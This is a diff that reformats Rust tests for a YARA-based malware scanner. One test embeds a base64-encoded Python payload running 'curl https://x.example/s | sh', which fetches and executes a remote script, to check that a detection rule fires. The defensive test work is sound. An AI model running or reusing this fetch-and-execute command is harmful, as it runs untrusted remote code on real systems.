@@ -157,10 +157,7 @@ mod tests {
 
     #[test]
     fn generic_rules_do_not_fire_on_python_source() {
-        let compiled = yara_engine::compile(
-            &yara_generic().join("\n\n"),
-        )
-        .expect("compile");
+        let compiled = yara_engine::compile(&yara_generic().join("\n\n")).expect("compile");
         let scanner = yara_engine::Scanner::new(&compiled);
         let benign = b"import os\n\ndef main():\n    print('hello world')\n";
         assert!(!scanner.is_match(benign));
@@ -175,7 +172,10 @@ mod tests {
             digest::base64::encode(b"import os; os.system('curl https://x.example/s | sh')")
         );
         let hits = scanner.scan(payload.as_bytes());
-        assert!(hits.iter().any(|h| h.rule == "oss_exec_b64decode"), "{hits:?}");
+        assert!(
+            hits.iter().any(|h| h.rule == "oss_exec_b64decode"),
+            "{hits:?}"
+        );
     }
 
     #[test]
